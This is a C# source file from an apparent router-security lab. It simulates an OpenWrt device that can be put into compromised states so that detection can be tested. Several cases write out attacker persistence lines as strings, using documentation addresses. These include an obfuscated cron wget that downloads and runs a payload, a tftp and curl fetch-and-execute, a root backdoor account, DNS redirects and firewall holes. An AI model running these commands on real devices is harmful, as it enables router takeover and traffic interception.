using System.Text;
using System.Text.Json.Nodes;

namespace FlaxGuard.Lab.Twins.OpenWrt;

/// <summary>
/// The twin's persistence side, as rpcd and LuCI answer it: file.list (rpcd file.c rpc_file_list: path canonicalized,
/// "list" permission on the path, opendir; entries with name, type, size, mode, atime, mtime, ctime, inode, uid, gid,
/// and for a symlink a "target" object with the link's name and the target's stat, or type "broken"), luci
/// getProcessList (luci-base's rpcd ucode plugin, luci.sys process_list over "busybox top -bn1": every field text),
/// network.interface dump (the WAN's DHCP-learned "dns-server"), and the compromise and churn changes of issue 13.
/// </summary>
public sealed partial class OpenWrtTwin
{
    private const string Upper = "/overlay/upper";

    private bool ApplyPersistence(OpenWrtTwinState s, string change)
    {
        switch (change)
        {
            case TwinChanges.SchedulerFetch:
                // A cron downloader written to hide the word wget and the URL from a plain text search.
                s.Files[OpenWrtTwinState.CrontabPath] += "*/15 * * * * u=http://203.0.113.7/m; cd /tmp && \"wg\"\"et\" -q $u -O .m && sh .m\n";
                return true;
            case TwinChanges.RcLocal:
                s.Files[OpenWrtTwinState.RcLocalPath] = s.Files[OpenWrtTwinState.RcLocalPath].Replace("exit 0",
                    "(sleep 60; busybox tftp -g -r mips -l /tmp/.s 198.51.100.9 && chmod +x /tmp/.s && /tmp/.s) &\nexit 0");
                return true;
            case TwinChanges.RootAccount:
                s.Files[OpenWrtTwinState.PasswdPath] += "sysadm:x:0:0:root:/root:/bin/ash\n";
                return true;
            case TwinChanges.AccountPromotion:
                s.Files[OpenWrtTwinState.PasswdPath] = s.Files[OpenWrtTwinState.PasswdPath].Replace("ntp:x:123:123:ntp:/var/run/ntp:/bin/false", "ntp:x:0:0:ntp:/var/run/ntp:/bin/ash");
                return true;
            case TwinChanges.HostsRedirect:
                // Documentation addresses (RFC 5737): reported only, never contacted.
                s.Files[OpenWrtTwinState.HostsPath] += "203.0.113.80 update.example.com download.example.com\n";
                return true;
            case TwinChanges.DnsmasqRedirect:
                s.Configs["dhcp"].First(x => x.Type == "dnsmasq").List("address", "/bank.example/203.0.113.81");
                s.Configs["dhcp"].Add(new UciSectionState(null, "host").Set("name", "laptop").Set("mac", "3c:22:fb:12:34:56").Set("ip", "192.168.1.143")
                    .List("dhcp_option", "6,203.0.113.53"));
                return true;
            case TwinChanges.OverlayBinary:
                s.AddOverlay("/usr/bin/.dbus-daemon", new("file", 48_213));
                return true;
            case TwinChanges.TmpProcess:
                s.Processes.Add(new(4711, 1, "root", "/tmp/.x/kworkerd -c 203.0.113.7", "/tmp/.x/kworkerd"));
                return true;
            case TwinChanges.DeletedProcess:
                // Started from /tmp, then deleted its file and renamed itself: only /proc/PID/exe still tells.
                s.Processes.Add(new(4712, 1, "root", "dbus-helper", "/tmp/dbus-helper (deleted)"));
                return true;
            case TwinChanges.MaliciousPackage:
                s.AddOverlay("/usr/lib/opkg/info/luci-app-sysmon.control", new("file", 388));
                s.AddOverlay("/usr/lib/opkg/info/luci-app-sysmon.list", new("file", 64));
                s.AddOverlay("/usr/sbin/sysmond", new("file", 91_342));
                s.AddOverlay("/usr/lib/opkg/status", new("file", 41_655));
                return true;
            case TwinChanges.UciWireGuardPeer:
                s.Configs["network"].Add(new UciSectionState("wg0", "interface").Set("proto", "wireguard").Set("private_key", "not-shown-never-read=").Set("listen_port", "51820"));
                s.Configs["network"].Add(new UciSectionState(null, "wireguard_wg0").Set("public_key", "bGFiUGVlcktleU5vdFJlYWxCdXRTaGFwZWRMaWtlT25lPQ==")
                    .Set("endpoint_host", "198.51.100.20").Set("endpoint_port", "51820").List("allowed_ips", "0.0.0.0/0").Set("route_allowed_ips", "0"));
                return true;
            case TwinChanges.UciTunnel:
                // A GRE tunnel to a relay: what the KV-botnet and similar relay networks set up to carry their traffic.
                s.Configs["network"].Add(new UciSectionState("relay0", "interface").Set("proto", "gre").Set("peeraddr", "203.0.113.77").Set("mtu", "1400"));
                return true;
            case TwinChanges.RemoteLog:
                // logd now copies every log line to a host the intruder reads.
                s.Configs["system"].First(x => x.Type == "system").Set("log_ip", "203.0.113.40").Set("log_port", "5514").Set("log_proto", "tcp");
                return true;
            case TwinChanges.FirewallInclude:
                s.Configs["firewall"].Add(new UciSectionState(null, "include").Set("path", "/etc/fw.d/extra.sh").Set("type", "script").Set("fw4_compatible", "1"));
                s.AddOverlay("/etc/fw.d/extra.sh", new("file", 733));
                return true;
            case TwinChanges.InitScript:
                s.AddOverlay("/etc/init.d/sysupd", new("file", 402));
                s.AddOverlay("/etc/rc.d/S99sysupd", new("symlink", 16, "../init.d/sysupd"));
                s.InitScripts.Add(new InitScript("sysupd", 99, null, true, true));
                return true;
            case TwinChanges.FeedAdded:
                // The implant's own feed, so "opkg update && opkg install" fetches its packages.
                s.Files[OpenWrtTwinState.CustomFeedsPath] += "src/gz sysmon http://203.0.113.9/openwrt/aarch64_cortex-a53\n";
                s.AddOverlay(OpenWrtTwinState.CustomFeedsPath, new("file", s.Files[OpenWrtTwinState.CustomFeedsPath].Length));
                return true;
            case TwinChanges.FeedUnsigned:
                s.Files[OpenWrtTwinState.OpkgConfPath] = s.Files[OpenWrtTwinState.OpkgConfPath].Replace("option check_signature\n", "");
                s.AddOverlay(OpenWrtTwinState.OpkgConfPath, new("file", s.Files[OpenWrtTwinState.OpkgConfPath].Length));
                return true;
            case TwinChanges.KeepAcrossUpgrade:
                s.Files[OpenWrtTwinState.SysupgradeConfPath] += "/usr/sbin/.sysmond\n/etc/init.d/sysmond\n";
                s.AddOverlay(OpenWrtTwinState.SysupgradeConfPath, new("file", s.Files[OpenWrtTwinState.SysupgradeConfPath].Length));
                s.RomEntries[OpenWrtTwinState.KeepDirectory + "/sysmond"] = new("file", 40);
                return true;
            case TwinChanges.ProfileFetch:
                // Runs at every login: refetches the implant if the owner deleted it.
                s.Files[OpenWrtTwinState.ProfilePath] += "(cd /tmp; [ -x .s ] || curl -fsk https://198.51.100.23/s -o .s; chmod +x .s; ./.s) >/dev/null 2>&1 &\n";
                s.AddOverlay(OpenWrtTwinState.ProfilePath, new("file", s.Files[OpenWrtTwinState.ProfilePath].Length));
                return true;
            case TwinChanges.RootSshKey:
                s.Files[OpenWrtTwinState.RootAuthorizedKeysPath] = OpenWrtTwinState.SecondIntruderKey + "\n";
                return true;
            case TwinChanges.WebInterpreter:
                s.Configs["uhttpd"].First(x => x.Name == "main").List("interpreter", ".sh=/bin/sh");
                return true;
            case TwinChanges.SshPasswordOn:
                s.Configs["dropbear"].First(x => x.Type == "dropbear").Set("PasswordAuth", "on").Set("RootPasswordAuth", "on");
                return true;
            case TwinChanges.StaticRoute:
                // Documentation addresses (RFC 5737): a bank's network sent through a LAN host that reads it.
                s.Configs["network"].Add(new UciSectionState(null, "route").Set("interface", "lan").Set("target", "198.51.100.0")
                    .Set("netmask", "255.255.255.0").Set("gateway", "192.0.2.66"));
                return true;
            case TwinChanges.DnsmasqConf:
                // Outside uci: an update server answered by the attacker, and a lease script that runs as root on every DHCP event.
                s.Files[OpenWrtTwinState.DnsmasqConfPath] += "address=/update.example/203.0.113.80\ndhcp-script=/usr/share/dnsmasq/lease.sh\n";
                s.AddOverlay(OpenWrtTwinState.DnsmasqConfPath, new("file", s.Files[OpenWrtTwinState.DnsmasqConfPath].Length));
                return true;
            case TwinChanges.IptablesAccept or TwinChanges.IptablesRedirect or TwinChanges.IptablesDrop when !s.Firewall3:
            case TwinChanges.NftAccept or TwinChanges.NftTable when s.Firewall3:
                // Each firewall has its own changes: a 23.05 router has no iptables, a 21.02 one no nft.
                return false;
            case TwinChanges.NftAccept:
                // "nft insert rule inet fw4 input iifname wan tcp dport 4444 counter accept": no fw4 comment, not in uci.
                s.ExtraRules.Add(new("inet", "fw4", "input",
                    "[{\"match\":{\"op\":\"==\",\"left\":{\"meta\":{\"key\":\"iifname\"}},\"right\":\"wan\"}}," +
                    "{\"match\":{\"op\":\"==\",\"left\":{\"payload\":{\"protocol\":\"tcp\",\"field\":\"dport\"}},\"right\":4444}},{\"accept\":null}]", null, true));
                return true;
            case TwinChanges.NftTable:
                // A table of its own that sends the LAN's DNS to the attacker's resolver (documentation address).
                s.ExtraTables.Add(("ip", "sysmon"));
                s.ExtraChains.Add(new("ip", "sysmon", "pre", "nat", "prerouting", -110, "accept"));
                s.ExtraRules.Add(new("ip", "sysmon", "pre",
                    "[{\"match\":{\"op\":\"==\",\"left\":{\"meta\":{\"key\":\"iifname\"}},\"right\":\"br-lan\"}}," +
                    "{\"match\":{\"op\":\"==\",\"left\":{\"payload\":{\"protocol\":\"udp\",\"field\":\"dport\"}},\"right\":53}}," +
                    "{\"dnat\":{\"addr\":\"203.0.113.53\"}}]", null, true));
                return true;
            case TwinChanges.IptablesAccept:
                // "iptables -I INPUT -p tcp --dport 4444 -j ACCEPT": no fw3 comment, not in uci.
                s.ExtraIptRules.Add(new("filter", "INPUT", "ACCEPT", "tcp", "*", "*", "tcp dpt:4444", null, First: true));
                return true;
            case TwinChanges.IptablesRedirect:
                // VPNFilter's ssler: "iptables -t nat -I PREROUTING -i br-lan -p tcp --dport 80 -j REDIRECT --to-ports 8888".
                s.ExtraIptRules.Add(new("nat", "PREROUTING", "REDIRECT", "tcp", "br-lan", "*", "tcp dpt:80", null, First: true, TargetOptions: "redir ports 8888"));
                return true;
            case TwinChanges.IptablesDrop:
                // Mirai's killer: "iptables -A INPUT -p tcp --dport 23 -j DROP" (and 2323), so no other bot gets in the same way.
                s.ExtraIptRules.Add(new("filter", "INPUT", "DROP", "tcp", "*", "*", "tcp dpt:23", null));
                s.ExtraIptRules.Add(new("filter", "INPUT", "DROP", "tcp", "*", "*", "tcp dpt:2323", null));
                return true;
            case TwinChanges.FirewallReload:
                // "fw4 reload": every object gets a new handle, every counter starts again.
                s.NftHandleBase += 1_000;
                s.NftPackets = 3;
                return true;
            case TwinChanges.ProcessPids:
                ShiftPids(s, 97);
                s.Processes.Add(new(9001, 3150, "root", "/bin/sh -c sleep 70 && touch /etc/banner && reboot", "/bin/busybox"));
                return true;
            case TwinChanges.PackageOrder:
                s.ListingShuffled = true;
                s.AddOverlay("/usr/lib/opkg/status", new("file", 41_239));
                return true;
            case TwinChanges.DhcpDnsRotation:
                s.LearnedDns.Reverse();
                s.LearnedDns[0] = "192.0.2.55";
                s.Files[OpenWrtTwinState.ResolvAutoPath] = string.Concat(s.LearnedDns.Select(d => $"nameserver {d}\n"));
                return true;
            case TwinChanges.OverlayNoise:
                s.AddOverlay("/root/.ash_history", new("file", 1_377));
                s.AddOverlay("/root/logs/messages.1", new("file", 65_536));
                s.AddOverlay("/etc/luci-uploads/cbid.network.wan.cert", new("file", 1_200));
                s.AddOverlay("/usr/lib/opkg/lists/openwrt_packages", new("file", 988_123));
                return true;
            default:
                return false;
        }
    }

    private static void ShiftPids(OpenWrtTwinState s, int by)
    {
        for (var i = 0; i < s.Processes.Count; i++)
        {
            var p = s.Processes[i];
            if (p.Pid <= 20) continue;
            s.Processes[i] = p with { Pid = p.Pid + by, Ppid = p.Ppid > 20 ? p.Ppid + by : p.Ppid };
        }
    }

    /// <summary>rpcd's rpc_canonicalize_path: repeated '/', "/./" and "/x/../" collapsed, trailing '/' dropped.</summary>
    private static string Canonical(string path)
    {
        var parts = new List<string>();
        foreach (var part in path.Split('/'))
        {
            if (part is "" or ".") continue;
            if (part == "..") { if (parts.Count > 0) parts.RemoveAt(parts.Count - 1); continue; }
            parts.Add(part);
        }
        return "/" + string.Join('/', parts);
    }

    private (int, JsonObject?) FileList(UbusSessionState session, JsonObject args)
    {
        if (!IsString(args["path"], out var raw) || raw.Length == 0) return (2, null);
        var path = Canonical(raw);
        if (!session.Allowed("file", path, "list")) return (6, null);
        var entries = new JsonArray();
        if (path == Upper || path.StartsWith(Upper + "/", StringComparison.Ordinal))
        {
            var below = path[Upper.Length..];
            if (_state.Overlay.Any(e => e.Key == below)) return (9, null); // opendir of a file: ENOTDIR, UNKNOWN_ERROR
            var children = new List<(string Name, OverlayEntry Entry)>();
            foreach (var (p, entry) in _state.Overlay)
            {
                if (!p.StartsWith(below + "/", StringComparison.Ordinal)) continue;
                var rest = p[(below.Length + 1)..];
                var slash = rest.IndexOf('/');
                var name = slash < 0 ? rest : rest[..slash];
                if (children.Any(c => c.Name == name)) continue;
                children.Add((name, slash < 0 ? entry : new OverlayEntry("directory", 4096)));
            }
            if (children.Count == 0 && below.Length > 0) return (4, null);
            if (_state.ListingShuffled || _state.Reordered) children.Reverse();
            foreach (var (name, entry) in children) entries.Add(Entry(name, entry));
        }
        else if (path.StartsWith("/proc/", StringComparison.Ordinal) && int.TryParse(path[6..], out var pid))
        {
            var process = _state.Processes.FirstOrDefault(p => p.Pid == pid);
            if (process is null) return (4, null);
            foreach (var name in new[] { "cmdline", "cwd", "environ", "exe", "fd", "maps", "root", "stat", "status" })
            {
                var link = name is "cwd" or "exe" or "root";
                var entry = Entry(name, new OverlayEntry(link ? "symlink" : name == "fd" ? "directory" : "file", 0));
                if (link)
                {
                    var target = name == "exe" ? process.Exe : name == "cwd" ? "/" : "/";
                    if (target.Length == 0) continue; // kernel threads: readlink fails, rpcd still lists; the probe never asks
                    entry["target"] = new JsonObject { ["name"] = target, ["type"] = "file", ["size"] = 48_213, ["mode"] = 33261 };
                }
                entries.Add(entry);
            }
        }
        else
        {
            // The rest of the file system: the files the twin holds and the image's listed-only entries under this folder.
            var children = new List<(string Name, OverlayEntry Entry)>();
            var files = _state.Files.Select(f => new KeyValuePair<string, OverlayEntry>(f.Key, new OverlayEntry("file", Encoding.UTF8.GetByteCount(f.Value))));
            foreach (var (p, entry) in files.Concat(_state.RomEntries))
            {
                if (p == path) return (9, null); // opendir of a file: ENOTDIR, UNKNOWN_ERROR
                if (!p.StartsWith(path + "/", StringComparison.Ordinal)) continue;
                var rest = p[(path.Length + 1)..];
                var slash = rest.IndexOf('/');
                var name = slash < 0 ? rest : rest[..slash];
                if (children.Any(c => c.Name == name)) continue;
                children.Add((name, slash < 0 ? entry : new OverlayEntry("directory", 4096)));
            }
            if (children.Count == 0) return (4, null);
            if (_state.ListingShuffled || _state.Reordered) children.Reverse();
            foreach (var (name, entry) in children) entries.Add(Entry(name, entry));
        }
        return (0, new JsonObject { ["entries"] = entries });
    }

    private static JsonObject Entry(string name, OverlayEntry e)
    {
        var mode = e.Type switch { "directory" => 16877, "symlink" => 41471, "char" => 8192, _ => 33188 };
        var o = new JsonObject
        {
            ["name"] = name, ["type"] = e.Type, ["size"] = e.Size, ["mode"] = mode, ["atime"] = 1733500000, ["mtime"] = 1733500000,
            ["ctime"] = 1733500000, ["inode"] = 1000 + Math.Abs(name.GetHashCode() % 50000), ["uid"] = 0, ["gid"] = 0, ["user"] = "root", ["group"] = "root",
        };
        if (e.Type == "symlink") o["target"] = new JsonObject { ["name"] = e.Target ?? "", ["type"] = "broken" };
        return o;
    }

    private JsonObject ProcessList()
    {
        var ordered = _state.Reordered ? Enumerable.Reverse(_state.Processes) : _state.Processes;
        return new JsonObject
        {
            ["result"] = new JsonArray(ordered.Select(p => (JsonNode)new JsonObject
            {
                ["PID"] = p.Pid.ToString(), ["PPID"] = p.Ppid.ToString(), ["USER"] = p.User, ["STAT"] = "S", ["VSZ"] = "1544", ["%MEM"] = "0%",
                ["%CPU"] = "0%", ["COMMAND"] = p.Command,
            }).ToArray()),
        };
    }

    private JsonObject InterfaceDump() => new()
    {
        ["interface"] = new JsonArray(new JsonObject
        {
            ["interface"] = "wan", ["up"] = true, ["proto"] = "dhcp",
            ["dns-server"] = new JsonArray(_state.LearnedDns.Select(d => (JsonNode)d).ToArray()),
        }),
    };
}
